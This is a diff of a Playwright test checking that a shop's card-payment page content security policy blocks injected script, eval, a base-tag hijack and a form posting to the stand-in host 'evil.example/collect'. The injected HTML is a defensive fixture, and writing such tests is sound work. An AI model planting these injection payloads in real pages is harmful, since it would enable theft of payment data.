@@ -82,24 +82,27 @@ test('the policy of the card page lets the provider work, and nobody else', asyn
 
 test('the policy of the card page runs no script that was put into it', async ({ page }) => {
   const { policy, nonce } = await policyOfCardPage()
-  await page.route('**/*', (route) =>
-    route.fulfill({
+  const asked: string[] = []
+  await page.route('**/*', (route) => {
+    asked.push(new URL(route.request().url()).origin)
+    return route.fulfill({
       headers: { 'content-type': 'text/html', 'content-security-policy': policy },
       body: `<!doctype html><title>Cartão</title>
         <script nonce="${nonce}">window.own = true; try { eval('window.evaluated = true') } catch {}</script>
         <script>window.put = true</script><img src="x" onerror="window.put = true">
         <base href="https://evil.example/"><form action="https://evil.example/collect"><button>Pagar</button></form>`,
-    }),
-  )
-  await page.goto(`${SHOP}/assinar/x`)
-  await page.getByRole('button', { name: 'Pagar' }).click()
-  const { own, put, evaluated } = await page.evaluate(() => {
-    const ran = window as unknown as Record<string, boolean | undefined>
-    return { own: ran.own, put: ran.put, evaluated: ran.evaluated }
+    })
   })
-  expect({ own, put, evaluated }).toEqual({ own: true, put: undefined, evaluated: undefined })
-  expect(await page.evaluate(() => document.baseURI)).toBe(`${SHOP}/assinar/x`)
-  await expect(page).toHaveURL(`${SHOP}/assinar/x`)
+  await page.goto(`${SHOP}/assinar/x`)
+  const ran = await page.evaluate(() => {
+    const { own, put, evaluated } = window as unknown as Record<string, boolean | undefined>
+    return { own, put, evaluated, base: document.baseURI }
+  })
+  expect(ran).toEqual({ own: true, put: undefined, evaluated: undefined, base: `${SHOP}/assinar/x` })
+  const refused = page.waitForEvent('console', (message) => message.text().includes('form-action'))
+  await page.getByRole('button', { name: 'Pagar' }).click({ noWaitAfter: true })
+  await refused
+  expect(new Set(asked)).toEqual(new Set([SHOP]))
 })
 
 /** Runs in the page: true when it came, false when the policy refused it. */
